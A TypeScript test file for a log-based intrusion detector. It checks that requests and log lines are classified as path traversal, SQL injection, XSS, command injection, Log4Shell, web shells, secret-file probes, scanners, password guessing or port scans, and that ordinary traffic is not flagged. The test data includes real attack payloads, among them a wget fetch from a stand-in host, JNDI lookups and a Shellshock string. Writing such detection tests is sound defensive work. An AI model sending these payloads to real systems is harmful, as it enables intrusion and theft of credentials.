import { describe, expect, test } from 'vitest';
import {
  decodeLine,
  LoginWatch,
  ProbingWatch,
  signsOfAttack,
  WebAttackWatch,
  WebBehaviourWatch,
} from '../src/index.ts';

const start = Date.UTC(2026, 10, 21);
const who = '198.51.100.9';

describe('one request shows what it is', () => {
  const signs = (url: string, status = 404, userAgent = 'Mozilla/5.0'): string[] =>
    signsOfAttack({ url, status, userAgent, sourceAddress: who });
  test.each([
    [
      'path_traversal',
      [
        '/..%2f..%2fetc/passwd',
        '/%252e%252e%252fa',
        '/%c0%ae%c0%ae/a',
        '/%uff0e/..%5c..%5cwin.ini',
        '/static/..;/manager',
        '/a?f=....//....//etc/shadow',
        '/a?page=php://filter/read=x',
        '/\\x2e\\x2e/a',
        '/cgi-bin/%%32%65%%32%65/a'.replace('%%32%65%%32%65', '%2e%2e'),
      ],
    ],
    [
      'sql_injection',
      [
        '/a?id=1%20UNION%20ALL%20SELECT%20NULL,NULL',
        "/a?id=1'%20or%20'1'='1",
        '/a?id=1/**/union/**/select/**/1',
        '/a?id=1;WAITFOR%20DELAY%20%270:0:5%27',
        '/a?id=1%20AND%20SLEEP(5)',
        '/a?id=1%27%20--%20',
        '/a?id=(SELECT%20CONCAT(0x71))',
        '/a?id=1;DROP%20TABLE%20x',
      ],
    ],
    [
      'cross_site_scripting',
      [
        '/a?q=%3Cscript%3Ealert(1)%3C/script%3E',
        '/a?q=%22onmouseover=alert(1)%20',
        '/a?q=%3Csvg/onload=alert(1)%3E',
        '/a?u=javascript:alert(1)',
        '/a?q=%253Cimg%2520src=x%253E',
      ],
    ],
    [
      'command_injection',
      [
        '/a?ip=1;cat%20/etc/hosts',
        '/a?ip=1%7Cid',
        '/a?ip=%60id%60',
        '/a?ip=$(curl%20x)',
        '/a?x=1%26%26whoami',
        '/shell?cd+/tmp;wget+http://xau.example/m.sh',
        '/a?c=cmd.exe+/c+dir',
        '/a?x=%0Aid',
      ],
    ],
    [
      'log4shell',
      [
        '/?x=$%7Bjndi:ldap://xau.example/a%7D',
        '/${${lower:j}ndi:dns://xau.example}',
        '/${${::-j}${::-n}di:x}',
      ],
    ],
    [
      'known_exploit',
      [
        '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
        '/index.php?s=/index/think/app/invokefunction&function=call_user_func_array',
        '/?class.module.classLoader.resources',
        '/autodiscover/autodiscover.json?@a/powershell',
        '/actuator/heapdump',
        '/boaform/admin/formLogin',
      ],
    ],
    [
      'web_shell',
      [
        '/uploads/c99.php',
        '/wp-content/uploads/2026/11/x.php',
        '/a.php?cmd=id',
        '/index.php?c=system(%27id%27)',
        '/aspnet_client/abcd.aspx',
        '/anh.jpg.php',
        '/tunnel.jsp',
        '/a.asp;.jpg',
      ],
    ],
    [
      'secret_files',
      [
        '/.env',
        '/.git/config',
        '/backup.zip',
        '/db.sql.gz',
        '/wp-config.php.bak',
        '/.aws/credentials',
        '/phpinfo.php',
        '/web.config',
        '/id_rsa',
        '/.htpasswd',
      ],
    ],
    [
      'cms_probing',
      [
        '/wp-login.php',
        '/xmlrpc.php',
        '/wp-content/plugins/x/readme.txt',
        '/administrator/index.php',
        '/phpmyadmin/',
        '/?author=1',
        '/wp-json/wp/v2/users',
        '/quan-tri/login',
      ],
    ],
    ['open_proxy', ['http://xau.example/a']],
  ])('%s', (kind, urls) => {
    for (const url of urls) expect([url, signs(url)]).toEqual([url, expect.arrayContaining([kind])]);
  });
  test('in the name of the browser, or in where it says to come from', () => {
    for (const agent of [
      'sqlmap/1.7',
      'Mozilla/5.0 (Nikto/2.5)',
      'Nuclei - Open-source',
      'masscan/1.3',
      'WPScan v3',
      'Fuzz Faster U Fool v2',
      'Hello, World',
    ])
      expect([agent, signs('/', 200, agent)]).toEqual([agent, ['scanner']]);
    expect(signs('/', 200, '${jndi:ldap://xau.example/a}')).toEqual(['log4shell']);
    expect(signs('/', 200, '() { :; }; /bin/bash -c id')).toEqual(['command_injection']);
    expect(signsOfAttack({ url: '/', referrer: '${jndi:dns://xau.example}' })).toEqual(['log4shell']);
  });
  test.each([
    '/tim-kiem?q=%E1%BA%A5p+B%C3%ACnh+v%C3%A0+x%C3%A3+%C4%90%E1%BA%AFk',
    '/tim-kiem?q=quy%E1%BA%BFt%20%C4%91%E1%BB%8Bnh%20s%E1%BB%91%2012%2F2026%2FQ%C4%90-UBND',
    '/tim-kiem?q=select+a+school+from+the+list',
    '/index.php?c=tin-tuc&a=xem&id=5',
    '/van-ban?cat=5&id=7&ls=1',
    '/tai-lieu/quyet-dinh..ban-cuoi.pdf',
    '/download.aspx?file=bieu-mau.docx&pass=1',
    '/anh/2026/11/le-khai-giang.jpg',
    '/api/v1/orders?sort=order_by&limit=10',
    '/san-pham/ao-so-mi--nam',
    '/.well-known/acme-challenge/x',
    '/uploads/2026/11/bao-cao.pdf',
    '/wp-content/plugins/contact-form/style.css',
    '/wp-includes/js/jquery.js',
    '/wp-admin/admin-ajax.php',
    '/data/bieu-mau.zip',
    '/upload.html',
  ])('an ordinary one shows nothing: %s', (url) => expect(signs(url, 200)).toEqual([]));
  test('a machine of ours that uses a proxy is none', () =>
    expect(signsOfAttack({ url: 'http://bao.example/', sourceAddress: '10.1.2.3', method: 'GET' })).toEqual(
      [],
    ));
});

/** Lines of an access log, each so many milliseconds after the last. */
function visits(
  everyMs: number,
  requests: readonly string[],
  { status = 200, method = 'GET', from = who, agent = 'Mozilla/5.0', user = '-' } = {},
): string[] {
  const stamp = (i: number): string => {
    const [, day = '', clock = ''] =
      /^(.{10})T(.{8})/.exec(new Date(start + i * everyMs).toISOString()) ?? [];
    return `${day.slice(8)}/Nov/2026:${clock} +0000`;
  };
  return requests.map(
    (url, i) => `${from} - ${user} [${stamp(i)}] "${method} ${url} HTTP/1.1" ${status} 5 "-" "${agent}"`,
  );
}
const many = (count: number, name: (i: number) => string): string[] =>
  Array.from({ length: count }, (_, i) => name(i));

describe('what a visitor does over time', () => {
  const kinds = (lines: readonly string[]): string[] => {
    const watch = new WebBehaviourWatch();
    return lines.flatMap((line) => watch.push(decodeLine(line, 'auto', {}).fields)).map(({ kind }) => kind);
  };
  test('pages that are not there, one after another', () => {
    expect(
      kinds(
        visits(
          500,
          many(30, (i) => `/a${i}.php`),
          { status: 404 },
        ),
      ),
    ).toEqual(['page_probing']);
    // Slowly, the same page, or pictures that an old page still wants: no probing.
    expect(
      kinds(
        visits(
          20_000,
          many(30, (i) => `/a${i}.php`),
          { status: 404 },
        ),
      ),
    ).toEqual([]);
    expect(
      kinds(
        visits(
          500,
          many(30, () => '/a.php'),
          { status: 404 },
        ),
      ),
    ).toEqual([]);
    expect(
      kinds(
        visits(
          100,
          many(30, (i) => `/anh/${i}.jpg`),
          { status: 404 },
        ),
      ),
    ).toEqual([]);
  });
  test('all pages without a picture', () => {
    expect(
      kinds(
        visits(
          100,
          many(80, (i) => `/bai-${i}`),
        ),
      ),
    ).toEqual(['crawl']);
    expect(
      kinds(
        visits(
          100,
          many(80, (i) => (i % 10 === 0 ? '/chung.css' : `/bai-${i}`)),
        ),
      ),
    ).toEqual([]);
    expect(
      kinds(
        visits(
          2_000,
          many(80, (i) => `/bai-${i}`),
        ),
      ),
    ).toEqual([]);
    expect(
      kinds(
        visits(
          100,
          many(80, (i) => `/bai-${i}`),
          { from: '10.1.2.3' },
        ),
      ),
    ).toEqual([]);
    expect(
      kinds(
        visits(
          100,
          many(80, (i) => `/bai-${i}`),
          { agent: 'Mozilla/5.0 (compatible; coccocbot-web/1.0)' },
        ),
      ),
    ).toEqual([]);
  });
  test('passwords guessed at a page', () => {
    expect(
      kinds(
        visits(
          1_000,
          many(20, () => '/dang-nhap'),
          { status: 401, method: 'POST' },
        ),
      ),
    ).toEqual(['password_guessing']);
    expect(
      kinds(
        visits(
          1_000,
          many(20, () => '/quan-tri/'),
          { status: 401, user: 'admin' },
        ),
      ),
    ).toEqual(['password_guessing']);
    expect(
      kinds(
        visits(
          1_000,
          many(20, () => '/wp-login.php'),
          { method: 'POST' },
        ),
      ),
    ).toEqual(['password_guessing']);
    expect(
      kinds(
        visits(
          1_000,
          many(20, () => '/api/login'),
          { status: 403, method: 'POST' },
        ),
      ),
    ).toEqual(['password_guessing']);
    // Twice wrong and then right; a session that ran out; big uploads; forms.
    expect(
      kinds(
        visits(
          3_000,
          many(2, () => '/dang-nhap'),
          { status: 401, method: 'POST' },
        ),
      ),
    ).toEqual([]);
    expect(
      kinds(
        visits(
          50,
          many(20, (i) => `/api/muc-${i}`),
          { status: 401 },
        ),
      ),
    ).toEqual([]);
    expect(
      kinds(
        visits(
          100,
          many(50, (i) => `/tai-len?phan=${i}`),
          { method: 'POST' },
        ),
      ),
    ).toEqual([]);
  });
  test('a scanner that asks for one page twice is one', () => {
    const watch = new WebAttackWatch();
    const found = visits(1_000, ['/', '/'], { agent: 'sqlmap/1.7' }).flatMap((line) =>
      watch.push(decodeLine(line, 'auto', {}).fields),
    );
    expect(found.map(({ kind }) => kind)).toEqual(['scanner']);
  });
});

describe('log-ons of every kind', () => {
  const kinds = (lines: readonly string[]): string[] => {
    const watch = new LoginWatch();
    return lines
      .flatMap((line) => watch.push(decodeLine(line, 'auto', { now: start }).fields))
      .map(({ kind }) => kind);
  };
  const at = (i: number, everySeconds: number): string =>
    `Nov 20 ${new Date(Date.UTC(2026, 10, 20, 1) + i * everySeconds * 1000).toISOString().slice(11, 19)}`;
  test('SSH, fast and slow, with passwords or keys only', () => {
    const failed = (count: number, every: number): string[] =>
      many(
        count,
        (i) => `${at(i, every)} web sshd[${i}]: Failed password for root from ${who} port ${40_000 + i} ssh2`,
      );
    expect(kinds(failed(10, 1))).toEqual(['password_guessing']);
    expect(kinds(failed(40, 30))).toEqual(['password_guessing']);
    expect(kinds(failed(40, 120))).toEqual([]);
    expect(
      kinds(
        many(
          10,
          (i) =>
            `${at(i, 1)} web sshd[${i}]: Connection closed by authenticating user root ${who} port ${40_000 + i} [preauth]`,
        ),
      ),
    ).toEqual(['password_guessing']);
    // One attempt under a wrong name: four lines, and no attack.
    expect(
      kinds([
        `${at(0, 1)} web sshd[1]: Invalid user an1 from 10.1.2.3 port 40000`,
        `${at(2, 1)} web sshd[1]: Failed password for invalid user an1 from 10.1.2.3 port 40000 ssh2`,
        `${at(5, 1)} web sshd[1]: Failed password for invalid user an1 from 10.1.2.3 port 40000 ssh2`,
        `${at(6, 1)} web sshd[1]: Connection closed by invalid user an1 10.1.2.3 port 40000 [preauth]`,
      ]),
    ).toEqual([]);
  });
  test('Windows: remote desktop and shares; nobody’s log-on in between forgives nothing', () => {
    const event = (id: number, i: number, user: string): string =>
      JSON.stringify({
        EventTime: `2026-11-21 00:00:${String(i).padStart(2, '0')}`,
        Hostname: 'FS01',
        EventID: id,
        SourceName: 'Microsoft-Windows-Security-Auditing',
        Channel: 'Security',
        SubjectUserName: '-',
        TargetUserName: user,
        LogonType: '3',
        IpAddress: who,
        IpPort: '0',
      });
    const attack = many(12, (i) =>
      i % 3 === 2 ? event(4624, i, 'ANONYMOUS LOGON') : event(4625, i, 'Administrator'),
    );
    expect(kinds(attack)).toEqual(['password_guessing']);
    expect(kinds([event(4625, 1, 'an'), event(4625, 5, 'an'), event(4624, 9, 'an')])).toEqual([]);
  });
  test('mail, and pages with passwords of the server itself', () => {
    const each = (line: (second: string) => string): string[] => many(8, (i) => line(at(i, 1)));
    expect(
      kinds(
        each(
          (t) =>
            `${t} mail dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<an@xa.example>, method=PLAIN, rip=${who}, lip=10.1.0.25, TLS, session=<x>`,
        ),
      ),
    ).toEqual(['password_guessing']);
    expect(
      kinds(
        each(
          (t) =>
            `${t} mail postfix/smtpd[811]: warning: unknown[${who}]: SASL LOGIN authentication failed: UGFzc3dvcmQ6`,
        ),
      ),
    ).toEqual(['password_guessing']);
    expect(
      kinds(
        many(
          8,
          (i) =>
            `[Sat Nov 21 00:00:0${i}.000000 2026] [auth_basic:error] [pid 1] [client ${who}:4011${i}] AH01617: user admin: authentication failure for "/quan-tri": Password Mismatch`,
        ),
      ),
    ).toEqual(['password_guessing']);
  });
});

describe('looking for open services', () => {
  const found = (lines: readonly string[]): string[] => {
    const watch = new ProbingWatch();
    return lines
      .flatMap((line) => watch.push(decodeLine(line, 'auto', { now: start }).fields, line))
      .map(({ kind, reasons }) => `${kind} ${reasons[0]?.value}`);
  };
  const dropped = (
    i: number,
    port: number,
    rest = 'SPT=40112 DPT=',
    prefix = '[UFW BLOCK]',
    target = '203.0.113.1',
    flags = 'SYN',
  ): string =>
    `Nov 20 01:00:${String(Math.floor(i / 4) % 60).padStart(2, '0')} gw kernel: ${prefix} IN=eth0 OUT= SRC=${who} DST=${target} LEN=60 PROTO=TCP ${rest}${port} WINDOW=1024 RES=0x00 ${flags} URGP=0`;
  test('many ports of a machine, many machines at a port', () => {
    expect(found(many(40, (i) => dropped(i, i + 1)))).toEqual(['ports 16']);
    expect(found(many(40, (i) => dropped(i, 445, undefined, '[UFW BLOCK]', `203.0.113.${i}`)))).toEqual([
      'machines 16',
    ]);
    expect(
      found(
        many(
          40,
          (i) =>
            `<134>Nov 20 01:00:0${Math.floor(i / 10)} pf filterlog[1]: 5,,,1,igb0,match,block,in,4,0x0,,64,0,0,DF,6,tcp,60,${who},203.0.113.1,40112,${i + 1},0,S,1,,1024,,`,
        ),
      ),
    ).toEqual(['ports 16']);
  });
  test('late packets of a server, what was let through, one port again and again are none', () => {
    expect(found(many(40, (i) => dropped(i, 40_000 + i, 'SPT=443 DPT=')))).toEqual([]);
    expect(
      found(many(40, (i) => dropped(i, 40_000 + i, undefined, '[UFW BLOCK]', undefined, 'ACK FIN'))),
    ).toEqual([]);
    expect(found(many(40, (i) => dropped(i, i + 1, undefined, '[UFW ALLOW]')))).toEqual([]);
    expect(found(many(40, (i) => dropped(i, 22)))).toEqual([]);
  });
  test('queries that a name server denies', () => {
    const denied = (count: number, every: number): string[] =>
      many(
        count,
        (i) =>
          `${new Date(start + i * every * 1000).toISOString().slice(8, 10)}-Nov-2026 ${new Date(start + i * every * 1000).toISOString().slice(11, 23)} security: info: client @0x7f ${who}#${40_000 + i} (a.example): query (cache) 'a.example/A/IN' denied`,
      );
    expect(found(denied(20, 1))).toEqual(['refused_queries 11']);
    expect(found(denied(20, 30))).toEqual([]);
  });
});
